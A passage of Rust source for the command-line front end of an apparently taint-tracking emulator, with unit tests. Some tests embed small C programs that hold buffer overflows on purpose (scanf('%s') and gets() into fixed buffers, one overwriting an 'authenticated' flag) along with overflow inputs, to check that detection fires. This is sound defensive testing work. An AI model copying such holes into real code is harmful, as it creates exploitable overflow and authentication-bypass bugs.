    }
    if opts.emit_proofs && (!opts.analyze || opts.analysis_cache.is_none()) {
        return Err(UsageError(
            "`--emit-proofs` belongs to the `analyze` subcommand and needs `--analysis-cache DIR` to store into".into(),
        ));
    }
    if opts.replay && opts.journal_in.is_none() {
        return Err(UsageError(
            "`replay` needs `--journal FILE` (a journal recorded with `--journal-out`)".into(),
        ));
    }
    if opts.journal_in.is_some() && !opts.replay {
        return Err(UsageError(
            "`--journal` only applies to the `replay` subcommand".into(),
        ));
    }
    if opts.journal_out.is_some()
        && (opts.analyze
            || opts.inject
            || opts.replay
            || opts.profile
            || opts.profile_out.is_some()
            || opts.pipeline
            || opts.disasm
            || opts.trace_out.is_some()
            || opts.metrics_out.is_some())
    {
        return Err(UsageError(
            "`--journal-out` records a plain run (no subcommand, --pipeline, --disasm, \
             --profile-out, --trace-out, or --metrics-out)"
                .into(),
        ));
    }
    Ok(opts)
}

/// Builds the machine described by `opts` from an in-memory source.
///
/// # Errors
///
/// Returns a [`UsageError`] when the program fails to build or a watched
/// symbol does not exist.
pub fn build_machine(opts: &Options, source: &str) -> Result<Machine, UsageError> {
    let mut machine = if opts.asm {
        Machine::from_asm(source)
    } else if opts.optimize {
        Machine::from_c_optimized(source)
    } else {
        Machine::from_c(source)
    }
    .map_err(|e| UsageError(format!("build failed: {e}")))?;

    let mut world = WorldConfig::new().stdin(opts.stdin.clone());
    let mut argv = vec![opts.program.clone()];
    argv.extend(opts.args.iter().cloned());
    world = world.args(argv);
    for env in &opts.envs {
        world = world.env(env);
    }
    for (path, contents) in &opts.files {
        world = world.file(path.clone(), contents.clone());
    }
    for session in &opts.sessions {
        world = world.session(NetSession::new(session.clone()));
    }
    machine = machine.world(world);
    if let Some(policy) = opts.policy {
        machine = machine.policy(policy);
    }
    if let Some(engine) = opts.engine {
        machine = machine.engine(engine);
    }
    if opts.elide_checks {
        machine = machine.elide_checks(true);
    }
    if opts.caches {
        machine = machine.hierarchy(ptaint::HierarchyConfig::two_level());
    }
    if let Some(steps) = opts.steps {
        machine = machine.step_limit(steps);
    }
    if let Some(ms) = opts.watchdog_ms {
        machine = machine.watchdog(Duration::from_millis(ms));
    }
    if let Some(depth) = opts.trace_depth {
        machine = machine.trace_depth(depth);
    }
    for (sym, len) in &opts.watches {
        if machine.image().symbol(sym).is_none() {
            return Err(UsageError(format!("no symbol `{sym}` to watch")));
        }
        machine = machine.taint_watch_symbol(sym, *len);
    }
    if opts.no_fork {
        machine = machine.fork_trials(false);
    }
    if let Some(dir) = &opts.analysis_cache {
        machine = machine.analysis_cache(dir);
    }
    if let Some(jobs) = opts.jobs {
        machine = machine.analysis_jobs(jobs);
    }
    Ok(machine)
}

/// Runs the machine and renders the report. Returns `(report, exit_code)`.
///
/// With `--trace-out` / `--metrics-out` / `--report` the collected
/// artifacts are written to the named host files; a write failure is
/// reported in the text output and forces exit code [`EXIT_ARTIFACT`], so
/// lost data is never mistaken for success.
#[must_use]
pub fn run_machine(opts: &Options, machine: &Machine) -> (String, i32) {
    if opts.analyze {
        return run_analyze_cli(opts, machine);
    }
    if opts.inject {
        return run_campaign_cli(opts, machine);
    }
    if opts.replay {
        return run_replay_cli(opts, machine);
    }
    if opts.disasm {
        return (ptaint::disassemble(machine.image()), 0);
    }
    let trace_cfg = TraceConfig {
        jsonl: opts.trace_out.is_some(),
        metrics: opts.metrics_out.is_some(),
        provenance: opts.provenance,
        metrics_interval: opts.metrics_interval,
        ..TraceConfig::default()
    };
    let profiling = opts.profile || opts.profile_out.is_some();
    let mut report = String::new();
    let mut trace = Vec::new();
    let mut trace_report = TraceReport::default();
    let mut profile = None;
    let mut journal = None;
    let (outcome, pipeline) = if opts.pipeline {
        let (o, p) = machine.run_pipelined();
        (o, Some(p))
    } else if profiling {
        let (o, t, r, p) = machine.run_profile(&trace_cfg);
        trace = t;
        trace_report = r;
        profile = Some(p);
        (o, None)
    } else if opts.journal_out.is_some() {
        let (o, j) = machine.record();
        journal = Some(j);
        (o, None)
    } else if trace_cfg.any() {
        let (o, t, r) = machine.run_with_trace(&trace_cfg);
        trace = t;
        trace_report = r;
        (o, None)
    } else {
        // The retired-instruction ring is maintained regardless, so always
        // collect the tail: it backs `--trace` and the alert report.
        let (o, t) = machine.run_traced();
        trace = t;
        (o, None)
    };
    let detected = matches!(outcome.reason, ExitReason::Security(_));

    if !outcome.stdout.is_empty() {
        report.push_str(&String::from_utf8_lossy(&outcome.stdout));
        if !report.ends_with('\n') {
            report.push('\n');
        }
    }
    for (i, transcript) in outcome.transcripts.iter().enumerate() {
        if !transcript.is_empty() {
            let _ = writeln!(
                report,
                "--- session {i} transcript ---\n{}",
                String::from_utf8_lossy(transcript)
            );
        }
    }
    // The execution tail is printed when asked for (`--trace`) and, so the
    // detection report stands on its own, whenever an alert fired.
    if (opts.trace || (detected && !opts.quiet)) && !trace.is_empty() {
        let _ = writeln!(report, "--- last {} instructions ---", trace.len());
        for line in &trace {
            let _ = writeln!(report, "{line}");
        }
    }
    if !opts.quiet {
        let _ = writeln!(report, "--- outcome: {}", outcome.reason);
        let _ = writeln!(report, "--- stats: {}", outcome.stats);
        if let Some(p) = pipeline {
            let _ = writeln!(
                report,
                "--- pipeline: {} cycles, IPC {:.3}, {} load-use stalls, {} flushes",
                p.cycles,
                p.ipc(),
                p.load_use_stalls,
                p.control_flushes
            );
        }
    }
    if let Some(chain) = &trace_report.forensic {
        let _ = writeln!(report, "--- provenance ---\n{chain}");
    } else if opts.provenance && detected {
        let _ = writeln!(report, "--- provenance: no chain reconstructed ---");
    }
    // The `profile` subcommand's reason to exist: the human top-N report.
    if opts.profile && !opts.quiet {
        if let Some(p) = &profile {
            report.push_str(&p.render_text(PROFILE_TOP_N));
        }
    }
    let mut artifact_failed = false;
    if let Some(path) = &opts.profile_out {
        let json = profile
            .as_ref()
            .map(|p| p.to_json() + "\n")
            .unwrap_or_default();
        match std::fs::write(path, &json) {
            Ok(()) if !opts.quiet => {
                let _ = writeln!(report, "--- profile: wrote {path}");
            }
            Ok(()) => {}
            Err(e) => {
                let _ = writeln!(report, "--- profile: cannot write `{path}`: {e}");
                artifact_failed = true;
            }
        }
    }
    if let Some(path) = &opts.trace_out {
        let bytes = trace_report.jsonl.take().unwrap_or_default();
        let events = bytes.iter().filter(|&&b| b == b'\n').count();
        match std::fs::write(path, &bytes) {
            Ok(()) if !opts.quiet => {
                let _ = writeln!(report, "--- trace: wrote {events} events to {path}");
            }
            Ok(()) => {}
            Err(e) => {
                let _ = writeln!(report, "--- trace: cannot write `{path}`: {e}");
                artifact_failed = true;
            }
        }
    }
    if let Some(path) = &opts.metrics_out {
        let json = trace_report
            .metrics
            .as_ref()
            .map(|m| m.to_json() + "\n")
            .unwrap_or_default();
        match std::fs::write(path, &json) {
            Ok(()) if !opts.quiet => {
                let _ = writeln!(report, "--- metrics: wrote {path}");
            }
            Ok(()) => {}
            Err(e) => {
                let _ = writeln!(report, "--- metrics: cannot write `{path}`: {e}");
                artifact_failed = true;
            }
        }
    }
    if let Some(path) = &opts.journal_out {
        let journal = journal.unwrap_or_default();
        let calls = journal.len();
        match std::fs::write(path, journal.to_text()) {
            Ok(()) if !opts.quiet => {
                let _ = writeln!(report, "--- journal: wrote {calls} calls to {path}");
            }
            Ok(()) => {}
            Err(e) => {
                let _ = writeln!(report, "--- journal: cannot write `{path}`: {e}");
                artifact_failed = true;
            }
        }
    }
    let code = if artifact_failed {
        EXIT_ARTIFACT
    } else {
        match outcome.reason {
            ExitReason::Exited(status) => status,
            ExitReason::Security(_) => 42,
            _ => 1,
        }
    };
    (report, code)
}

/// The `analyze` subcommand: prints the static lint report, optionally
/// loading from / storing into a `--analysis-cache` directory.
///
/// Exit-code contract (the `--help` table): findings exit 3; an
/// unreadable or corrupt cache entry falls back to a cold analysis — the
/// report is still printed, never a panic — but exits 2 so scripts learn
/// the cache needs regenerating (`--emit-proofs`); a failed
/// `--emit-proofs` write exits [`EXIT_ARTIFACT`]. Exit 2 takes priority
/// over 4, which takes priority over 3.
fn run_analyze_cli(opts: &Options, machine: &Machine) -> (String, i32) {
    let image = machine.image();
    let mut report = String::new();
    let mut cache_corrupt = false;
    let mut cached = None;
    if let Some(dir) = &opts.analysis_cache {
        match ptaint::proof_cache::load(std::path::Path::new(dir), image) {
            Ok(hit) => cached = hit,
            Err(e) => {
                let _ = writeln!(
                    report,
                    "--- analysis cache: entry unusable, re-analyzing cold: {e}"
                );
                cache_corrupt = true;
            }
        }
    }
    let from_cache = cached.is_some();
    let analysis = cached.unwrap_or_else(|| match opts.jobs {
        Some(jobs) => ptaint::analyze_with(image, jobs),
        None => ptaint::analyze(image),
    });
    let mut emit_failed = false;
    if opts.emit_proofs {
        if let Some(dir) = &opts.analysis_cache {
            match ptaint::proof_cache::store(std::path::Path::new(dir), image, &analysis) {
                Ok(path) if !opts.quiet => {
                    let _ = writeln!(report, "--- proofs: wrote {}", path.display());
                }
                Ok(_) => {}
                Err(e) => {
                    let _ = writeln!(report, "--- proofs: cannot write into `{dir}`: {e}");
                    emit_failed = true;
                }
            }
        }
    }
    if from_cache && !opts.quiet {
        let _ = writeln!(
            report,
            "--- analysis cache: loaded proofs for image {:016x}",
            ptaint::proof_cache::image_hash(image)
        );
    }
    report.push_str(&ptaint::render_report(image, &analysis));
    let code = if cache_corrupt {
        2
    } else if emit_failed {
        EXIT_ARTIFACT
    } else {
        i32::from(analysis.stats.flagged_sites > 0) * 3
    };
    (report, code)
}

/// The `inject` subcommand: runs a seeded campaign and emits the JSON
/// report (to `--report FILE`, or into the text output).
fn run_campaign_cli(opts: &Options, machine: &Machine) -> (String, i32) {
    let spec = CampaignSpec::new(opts.seed.unwrap_or(1), opts.trials.unwrap_or(32))
        .kinds(opts.fault_kinds.clone());
    let jobs = opts.jobs.unwrap_or_else(|| {
        std::thread::available_parallelism().map_or(1, std::num::NonZeroUsize::get)
    });
    let campaign = machine.run_campaign_jobs(&spec, jobs);
    let json = campaign.to_json() + "\n";

    let mut report = String::new();
    if !opts.quiet {
        let counts = ptaint::OutcomeClass::ALL
            .iter()
            .map(|&c| format!("{} {}", campaign.count(c), c.name()))
            .collect::<Vec<_>>()
            .join(", ");
        let _ = writeln!(
            report,
            "--- campaign: seed {}, {} trials over `{}`: {counts}",
            campaign.seed, campaign.trials, opts.program
        );
        let _ = writeln!(
            report,
            "--- baseline: {} ({} taint-delivering calls)",
            campaign.baseline_reason, campaign.baseline_io_calls
        );
    }
    let mut code = 0;
    match &opts.report_out {
        Some(path) => match std::fs::write(path, &json) {
            Ok(()) if !opts.quiet => {
                let _ = writeln!(report, "--- report: wrote {path}");
            }
            Ok(()) => {}
            Err(e) => {
                let _ = writeln!(report, "--- report: cannot write `{path}`: {e}");
                code = EXIT_ARTIFACT;
            }
        },
        None => report.push_str(&json),
    }
    (report, code)
}

/// The `replay` subcommand: re-serves a recorded journal against the
/// built image and reports the retraced outcome. An unreadable or
/// malformed journal file is a read error (exit 2), matching the other
/// input files; a divergence is an abnormal stop (exit 1) whose outcome
/// line names the call where the guest left the recording.
fn run_replay_cli(opts: &Options, machine: &Machine) -> (String, i32) {
    let path = opts.journal_in.as_deref().unwrap_or_default();
    let text = match std::fs::read_to_string(path) {
        Ok(t) => t,
        Err(e) => return (format!("cannot read journal `{path}`: {e}\n"), 2),
    };
    let journal = match SyscallJournal::from_text(&text) {
        Ok(j) => j,
        Err(e) => return (format!("bad journal `{path}`: {e}\n"), 2),
    };
    let calls = journal.len();
    let outcome = machine.replay(journal);
    let mut report = String::new();
    if !opts.quiet {
        let _ = writeln!(report, "--- replay: {calls} journaled calls from {path}");
        let _ = writeln!(report, "--- outcome: {}", outcome.reason);
        let _ = writeln!(report, "--- stats: {}", outcome.stats);
    }
    let code = match outcome.reason {
        ExitReason::Exited(status) => status,
        ExitReason::Security(_) => 42,
        _ => 1,
    };
    (report, code)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse(args: &[&str]) -> Result<Options, UsageError> {
        let owned: Vec<String> = args.iter().map(|s| (*s).to_owned()).collect();
        parse_args(&owned)
    }

    #[test]
    fn parses_a_full_command_line() {
        let opts = parse(&[
            "prog.c",
            "--policy",
            "control-only",
            "--stdin-text",
            "hello",
            "--arg",
            "-g",
            "--arg",
            "123",
            "--env",
            "HOME=/root",
            "--watch",
            "uid:4",
            "--caches",
            "--pipeline",
            "--steps",
            "1000",
            "--quiet",
        ])
        .unwrap();
        assert_eq!(opts.program, "prog.c");
        assert_eq!(opts.policy, Some(DetectionPolicy::ControlOnly));
        assert_eq!(opts.stdin, b"hello");
        assert_eq!(opts.args, vec!["-g", "123"]);
        assert_eq!(opts.envs, vec!["HOME=/root"]);
        assert_eq!(opts.watches, vec![("uid".to_owned(), 4)]);
        assert!(opts.caches && opts.pipeline && opts.quiet);
        assert_eq!(opts.steps, Some(1000));
    }

    #[test]
    fn rejects_bad_usage() {
        assert!(parse(&[]).is_err());
        assert!(parse(&["a.c", "b.c"]).is_err());
        assert!(parse(&["a.c", "--policy"]).is_err());
        assert!(parse(&["a.c", "--policy", "what"]).is_err());
        assert!(parse(&["a.c", "--watch", "nocolon"]).is_err());
        assert!(parse(&["a.c", "--bogus"]).is_err());
        assert!(parse(&["a.c", "--steps", "NaN"]).is_err());
        assert!(parse(&["a.c", "--engine"]).is_err());
        assert!(parse(&["a.c", "--engine", "jit"]).is_err());
    }

    #[test]
    fn engine_flag_selects_the_engine() {
        assert_eq!(parse(&["a.c"]).unwrap().engine, None);
        assert_eq!(
            parse(&["a.c", "--engine", "interp"]).unwrap().engine,
            Some(Engine::Interp)
        );
        assert_eq!(
            parse(&["a.c", "--engine", "cached"]).unwrap().engine,
            Some(Engine::Cached)
        );
    }

    #[test]
    fn session_lines_decode_hex_escapes() {
        assert_eq!(unescape_session_line("GET /x").unwrap(), b"GET /x");
        assert_eq!(
            unescape_session_line("A\\x00\\xd0\\x01B\\\\").unwrap(),
            [b'A', 0x00, 0xd0, 0x01, b'B', b'\\']
        );
        assert!(unescape_session_line("\\x2").is_err());
        assert!(unescape_session_line("\\q").is_err());
        assert!(unescape_session_line("trailing\\").is_err());
    }

    #[test]
    fn end_to_end_hello() {
        let opts = parse(&["hello.c", "--quiet"]).unwrap();
        let machine = build_machine(
            &opts,
            r#"int main() { printf("hi from cli\n"); return 3; }"#,
        )
        .unwrap();
        let (report, code) = run_machine(&opts, &machine);
        assert_eq!(report, "hi from cli\n");
        assert_eq!(code, 3);
    }

    #[test]
    fn end_to_end_detection_exits_42() {
        let opts = parse(&["vuln.c", "--quiet", "--stdin-text"]).unwrap_err();
        assert!(opts.0.contains("needs a value"));

        let opts = parse(&["vuln.c"]).unwrap();
        let mut opts = opts;
        opts.stdin = vec![b'a'; 24];
        let machine = build_machine(
            &opts,
            "void f() { char b[10]; scanf(\"%s\", b); } int main() { f(); return 0; }",
        )
        .unwrap();
        let (report, code) = run_machine(&opts, &machine);
        assert_eq!(code, 42);
        assert!(report.contains("SECURITY ALERT"), "{report}");
        assert!(report.contains("jr $31"), "{report}");
    }

    #[test]
    fn watch_flag_protects_symbols() {
        let mut opts = parse(&["auth.c", "--watch", "authenticated:4", "--quiet"]).unwrap();
        opts.stdin = {
            let mut v = vec![b'x'; 16];
            v.extend_from_slice(b"AAAA\n");
            v
        };
        let source = "char pw[16]; int authenticated;
             int main() { gets(pw); if (authenticated) printf(\"in\\n\"); return 0; }";
        let machine = build_machine(&opts, source).unwrap();
        let (report, code) = run_machine(&opts, &machine);
        assert_eq!(code, 42, "{report}");

        // Unknown symbol is a usage error.
        let opts = parse(&["auth.c", "--watch", "nope:4"]).unwrap();
        assert!(build_machine(&opts, source).is_err());
    }

    #[test]
    fn analyze_subcommand_prints_the_lint_report() {
        let opts = parse(&["analyze", "p.c"]).unwrap();
        assert!(opts.analyze);
        assert_eq!(opts.program, "p.c");

        let machine = build_machine(&opts, "int main() { return 0; }").unwrap();
        let (report, code) = run_machine(&opts, &machine);
        assert_eq!(code, 0, "{report}");
        assert!(report.contains("ptaint-analyze report"), "{report}");

        // A provable tainted dereference is reported and exits 3.
        let machine = build_machine(
            &opts,
            r#"int main() {
                char buf[8];
                read(0, buf, 4);
                int *p = (int *)(buf[0]);
                return *p;
            }"#,
        )
        .unwrap();
        let (report, code) = run_machine(&opts, &machine);
        assert_eq!(code, 3, "{report}");
    }

    #[test]
    fn jobs_flag_parses_all_spellings() {
        assert_eq!(parse(&["p.c"]).unwrap().jobs, None);
        assert_eq!(parse(&["p.c", "-j", "4"]).unwrap().jobs, Some(4));
        assert_eq!(parse(&["p.c", "--jobs", "2"]).unwrap().jobs, Some(2));
        assert_eq!(parse(&["p.c", "-j8"]).unwrap().jobs, Some(8));
        assert!(parse(&["p.c", "-j", "0"]).is_err());
        assert!(parse(&["p.c", "-j0"]).is_err());
        assert!(parse(&["p.c", "-jx"]).is_err());
        assert!(parse(&["p.c", "--jobs", "NaN"]).is_err());
    }

    #[test]
    fn emit_proofs_needs_analyze_and_a_cache_dir() {
        assert!(parse(&["p.c", "--emit-proofs"]).is_err());
        assert!(parse(&["analyze", "p.c", "--emit-proofs"]).is_err());
        assert!(parse(&["p.c", "--emit-proofs", "--analysis-cache", "d"]).is_err());
        let opts = parse(&["analyze", "p.c", "--emit-proofs", "--analysis-cache", "d"]).unwrap();
        assert!(opts.emit_proofs);
        assert_eq!(opts.analysis_cache.as_deref(), Some("d"));
        // A plain run may still point at a cache without emitting.
        let opts = parse(&["p.c", "--analysis-cache", "d"]).unwrap();
        assert!(!opts.emit_proofs);
        assert_eq!(opts.analysis_cache.as_deref(), Some("d"));
    }

    #[test]
    fn analyze_cache_round_trips_and_survives_corruption() {
        let dir = std::env::temp_dir().join("ptaint-cli-analysis-cache-test");
        let _ = std::fs::remove_dir_all(&dir);
        let dir_s = dir.to_string_lossy().into_owned();
        let source = "int main() { return 0; }";

        // Cold run with --emit-proofs populates the cache and exits 0.
        let mut cold =
            parse(&["analyze", "p.c", "--emit-proofs", "--analysis-cache", "d"]).unwrap();
        cold.analysis_cache = Some(dir_s.clone());
        let machine = build_machine(&cold, source).unwrap();
        let (cold_report, code) = run_machine(&cold, &machine);
        assert_eq!(code, 0, "{cold_report}");
        assert!(cold_report.contains("--- proofs: wrote"), "{cold_report}");
        let entry = std::fs::read_dir(&dir).unwrap().next().unwrap().unwrap();
        assert!(entry.path().extension().is_some_and(|e| e == "proofs"));

        // Warm run loads the entry and renders the identical lint report.
        let mut warm = parse(&["analyze", "p.c"]).unwrap();
        warm.analysis_cache = Some(dir_s.clone());
        let (warm_report, code) = run_machine(&warm, &machine);
        assert_eq!(code, 0, "{warm_report}");
        assert!(
            warm_report.contains("--- analysis cache: loaded"),
            "{warm_report}"
        );
        let lint = |r: &str| {
            r.lines()
                .skip_while(|l| l.starts_with("---"))
                .collect::<Vec<_>>()
                .join("\n")
        };
        assert_eq!(
            lint(&cold_report),
            lint(&warm_report),
            "warm report must match cold byte-for-byte"
        );

        // A corrupt entry falls back to a cold analysis (the report is
        // still rendered) but the exit code reports the bad cache: 2,
        // taking priority over exit-3-on-findings. Never a panic.
        std::fs::write(entry.path(), "ptaint-proofs v1\ngarbage\n").unwrap();
        let (report, code) = run_machine(&warm, &machine);
        assert_eq!(code, 2, "{report}");
        assert!(report.contains("entry unusable"), "{report}");
        assert!(report.contains("ptaint-analyze report"), "{report}");

        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn analyze_jobs_output_is_thread_count_independent() {
        let source = r#"int main() {
            char buf[8];
            read(0, buf, 4);
            int *p = (int *)(buf[0]);
            return *p;
        }"#;
        let mut one = parse(&["analyze", "p.c", "-j1"]).unwrap();
        let machine = build_machine(&one, source).unwrap();
        let (report_one, code_one) = run_machine(&one, &machine);
        one.jobs = Some(4);
        let (report_four, code_four) = run_machine(&one, &machine);
        assert_eq!(code_one, 3, "{report_one}");
        assert_eq!(code_four, 3);
        assert_eq!(
            report_one, report_four,
            "-j1 and -j4 must render byte-identical reports"
        );
    }

    #[test]
    fn emit_proofs_write_failure_exits_4() {
        let mut opts = parse(&["analyze", "p.c"]).unwrap();
        opts.emit_proofs = true;
        opts.analysis_cache = Some("/proc/nonexistent-dir/cache".into());
        let machine = build_machine(&opts, "int main() { return 0; }").unwrap();
        let (report, code) = run_machine(&opts, &machine);
        assert_eq!(code, EXIT_ARTIFACT, "{report}");
        assert!(report.contains("cannot write"), "{report}");
    }

    #[test]
    fn run_mode_uses_the_analysis_cache_at_boot() {
        let dir = std::env::temp_dir().join("ptaint-cli-run-cache-test");
        let _ = std::fs::remove_dir_all(&dir);
        // The boot-time analysis runs for `--elide-checks` (the proofs
        // back the elided sites), so that is the run mode that exercises
        // the cache.
        let mut opts = parse(&["p.c", "--quiet", "--elide-checks"]).unwrap();
        opts.analysis_cache = Some(dir.to_string_lossy().into_owned());
        let machine = build_machine(&opts, "int main() { return 7; }").unwrap();
        // First boot is cold and populates the cache; second boots warm.
        let (_, code) = run_machine(&opts, &machine);
        assert_eq!(code, 7);
        assert_eq!(std::fs::read_dir(&dir).unwrap().count(), 1);
        let (_, code) = run_machine(&opts, &machine);
        assert_eq!(code, 7);
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn analyze_keyword_is_positional_only() {
        // Only the first argument is the subcommand keyword: later
        // positionals named `analyze` are program paths.
        let opts = parse(&["--asm", "analyze"]).unwrap();
        assert!(!opts.analyze);
        assert_eq!(opts.program, "analyze");

        // The `./` escape hatch works even in the first position.
        let opts = parse(&["./analyze"]).unwrap();
        assert!(!opts.analyze);
        assert_eq!(opts.program, "./analyze");

        // Flags may precede the program after the keyword.
        let opts = parse(&["analyze", "--asm", "p.s"]).unwrap();
        assert!(opts.analyze && opts.asm);
        assert_eq!(opts.program, "p.s");

        // A bare `analyze` still reports the missing program.
        assert!(parse(&["analyze"]).unwrap_err().0.contains("no program"));
    }

    #[test]
    fn elide_checks_flag_reaches_the_machine() {
        let opts = parse(&["p.c", "--elide-checks", "--quiet"]).unwrap();
        assert!(opts.elide_checks);
        let machine = build_machine(&opts, "int main() { return 5; }").unwrap();
        let (report, code) = run_machine(&opts, &machine);
        assert_eq!(code, 5, "{report}");
    }

    #[test]
    fn disasm_mode_prints_assembly() {
        let opts = parse(&["p.c", "--disasm"]).unwrap();
        let machine = build_machine(&opts, "int main() { return 0; }").unwrap();
        let (report, code) = run_machine(&opts, &machine);
        assert_eq!(code, 0);
        assert!(report.contains("<main>:"));
    }

    #[test]
    fn pipeline_mode_reports_cycles() {
        let opts = parse(&["p.c", "--pipeline"]).unwrap();
        let machine = build_machine(&opts, "int main() { return 0; }").unwrap();
        let (report, _) = run_machine(&opts, &machine);
        assert!(report.contains("--- pipeline:"), "{report}");
    }

    #[test]
    fn inject_subcommand_parses_campaign_flags() {
        let opts = parse(&[
            "inject",
            "p.c",
            "--seed",
            "7",
            "--trials",
            "4",
            "--faults",
            "taint_clear,eintr",
            "--report",
            "out.json",
        ])
        .unwrap();
        assert!(opts.inject);
        assert_eq!(opts.seed, Some(7));
        assert_eq!(opts.trials, Some(4));
        assert_eq!(
            opts.fault_kinds,
            vec![FaultKind::TaintClear, FaultKind::Eintr]
        );
        assert_eq!(opts.report_out.as_deref(), Some("out.json"));

        assert!(parse(&["inject", "p.c", "--faults", "cosmic_ray"]).is_err());
        assert!(parse(&["p.c", "--seed", "NaN"]).is_err());
        assert!(parse(&["p.c", "--watchdog-ms", "x"]).is_err());
        // Positional-only, like `analyze`.
        let opts = parse(&["--asm", "inject"]).unwrap();
        assert!(!opts.inject);
        assert_eq!(opts.program, "inject");
    }

    #[test]
    fn inject_campaign_runs_and_is_deterministic() {
        let mut opts =
            parse(&["inject", "p.c", "--seed", "3", "--trials", "4", "--quiet"]).unwrap();
        opts.stdin = b"abcd".to_vec();
        let machine = build_machine(
            &opts,
            r#"int main() {
                char b[8];
                read(0, b, 8);
                return 0;
            }"#,
        )
        .unwrap();
        let (a, code_a) = run_machine(&opts, &machine);
        let (b, code_b) = run_machine(&opts, &machine);
        assert_eq!(code_a, 0);
        assert_eq!(code_b, 0);
        assert_eq!(a, b, "same seed must give byte-identical output");
        assert!(a.contains("\"seed\":3"), "{a}");
        assert!(a.contains("\"records\":["), "{a}");
    }

    #[test]
    fn profile_subcommand_prints_the_report() {
        let opts = parse(&["profile", "p.c"]).unwrap();
        assert!(opts.profile);
        assert_eq!(opts.program, "p.c");

        let machine = build_machine(&opts, "int main() { return 0; }").unwrap();
        let (report, code) = run_machine(&opts, &machine);
        assert_eq!(code, 0, "{report}");
        assert!(report.contains("--- profile:"), "{report}");
        assert!(report.contains("hot blocks"), "{report}");
        assert!(report.contains("main"), "{report}");

        // Positional-only, like `analyze` and `inject`.
        let opts = parse(&["--asm", "profile"]).unwrap();
        assert!(!opts.profile);
        assert_eq!(opts.program, "profile");
    }

    #[test]
    fn profile_out_writes_deterministic_json() {
        let dir = std::env::temp_dir().join("ptaint-cli-profile-test");
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("profile.json");
        let mut opts = parse(&["p.c", "--quiet"]).unwrap();
        opts.profile_out = Some(path.to_string_lossy().into_owned());
        let machine = build_machine(
            &opts,
            "int f(int x) { return x + 1; } int main() { return f(4); }",
        )
        .unwrap();
        let (report, code) = run_machine(&opts, &machine);
        assert_eq!(code, 5, "{report}");
        let first = std::fs::read(&path).unwrap();
        let (_, code2) = run_machine(&opts, &machine);
        assert_eq!(code2, 5);
        let second = std::fs::read(&path).unwrap();
        assert_eq!(first, second, "profile JSON must be byte-deterministic");
        let text = String::from_utf8(first).unwrap();
        assert!(text.starts_with("{\"steps\":"), "{text}");
        assert!(text.contains("\"symbol\":\"main\""), "{text}");
        let _ = std::fs::remove_file(&path);
    }

    #[test]
    fn metrics_interval_needs_trace_out_and_rejects_zero() {
        assert!(parse(&["p.c", "--metrics-interval", "100"])
            .unwrap_err()
            .0
            .contains("--trace-out"));
        assert!(parse(&["p.c", "--metrics-interval", "0", "--trace-out", "t"]).is_err());
        assert!(parse(&["p.c", "--metrics-interval", "x", "--trace-out", "t"]).is_err());
        let opts = parse(&["p.c", "--metrics-interval", "512", "--trace-out", "t.jsonl"]).unwrap();
        assert_eq!(opts.metrics_interval, Some(512));

        // Profiling the pipeline timing model is a usage error.
        assert!(parse(&["profile", "p.c", "--pipeline"]).is_err());
        assert!(parse(&["p.c", "--pipeline", "--profile-out", "f"]).is_err());
    }

    #[test]
    fn artifact_write_failures_exit_4() {
        // Campaign report into a directory that does not exist.
        let mut opts = parse(&[
            "inject",
            "p.c",
            "--trials",
            "1",
            "--report",
            "/nonexistent-dir/r.json",
        ])
        .unwrap();
        opts.quiet = true;
        let machine = build_machine(&opts, "int main() { return 0; }").unwrap();
        let (report, code) = run_machine(&opts, &machine);
        assert_eq!(code, EXIT_ARTIFACT, "{report}");
        assert!(report.contains("cannot write"), "{report}");

        // Trace stream into an unwritable path: exit 4, not the guest's 0.
        let opts2 = {
            let mut o =
                parse(&["p.c", "--quiet", "--trace-out", "/nonexistent-dir/t.jsonl"]).unwrap();
            o.quiet = true;
            o
        };
        let machine2 = build_machine(&opts2, "int main() { return 0; }").unwrap();
        let (report2, code2) = run_machine(&opts2, &machine2);
        assert_eq!(code2, EXIT_ARTIFACT, "{report2}");

        // Profile JSON into an unwritable path: same contract.
        let opts3 = {
            let mut o = parse(&["p.c", "--profile-out", "/nonexistent-dir/p.json"]).unwrap();
            o.quiet = true;
            o
        };
        let machine3 = build_machine(&opts3, "int main() { return 0; }").unwrap();
        let (report3, code3) = run_machine(&opts3, &machine3);
        assert_eq!(code3, EXIT_ARTIFACT, "{report3}");
        assert!(report3.contains("cannot write"), "{report3}");
    }

    #[test]
    fn replay_subcommand_parses_and_validates() {
        let opts = parse(&["replay", "p.c", "--journal", "j.txt"]).unwrap();
        assert!(opts.replay);
        assert_eq!(opts.program, "p.c");
        assert_eq!(opts.journal_in.as_deref(), Some("j.txt"));

        // `replay` without a journal, and `--journal` outside `replay`,
        // are usage errors.
        assert!(parse(&["replay", "p.c"])
            .unwrap_err()
            .0
            .contains("--journal"));
        assert!(parse(&["p.c", "--journal", "j.txt"]).is_err());
        // Positional-only, like the other subcommands.
        let opts = parse(&["--asm", "replay"]).unwrap();
        assert!(!opts.replay);
        assert_eq!(opts.program, "replay");
    }

    #[test]
    fn journal_out_is_a_plain_run_artifact() {
        assert!(parse(&["p.c", "--journal-out", "j.txt", "--pipeline"]).is_err());
        assert!(parse(&["p.c", "--journal-out", "j.txt", "--trace-out", "t"]).is_err());
        assert!(parse(&["inject", "p.c", "--journal-out", "j.txt"]).is_err());
        assert!(parse(&["analyze", "p.c", "--journal-out", "j.txt"]).is_err());
        let opts = parse(&["p.c", "--journal-out", "j.txt"]).unwrap();
        assert_eq!(opts.journal_out.as_deref(), Some("j.txt"));
    }

    #[test]
    fn fork_flags_toggle_campaign_forking() {
        assert!(!parse(&["inject", "p.c"]).unwrap().no_fork);
        assert!(!parse(&["inject", "p.c", "--fork"]).unwrap().no_fork);
        assert!(parse(&["inject", "p.c", "--no-fork"]).unwrap().no_fork);

        // The escape hatch changes the mechanism, never the report.
        let mut forked =
            parse(&["inject", "p.c", "--seed", "3", "--trials", "4", "--quiet"]).unwrap();
        forked.stdin = b"abcd".to_vec();
        let mut rebooted = forked.clone();
        rebooted.no_fork = true;
        let source = r#"int main() {
            char b[8];
            read(0, b, 8);
            return 0;
        }"#;
        let (a, _) = run_machine(&forked, &build_machine(&forked, source).unwrap());
        let (b, _) = run_machine(&rebooted, &build_machine(&rebooted, source).unwrap());
        assert_eq!(
            a, b,
            "--no-fork must reproduce the forked report byte-for-byte"
        );
    }

    #[test]
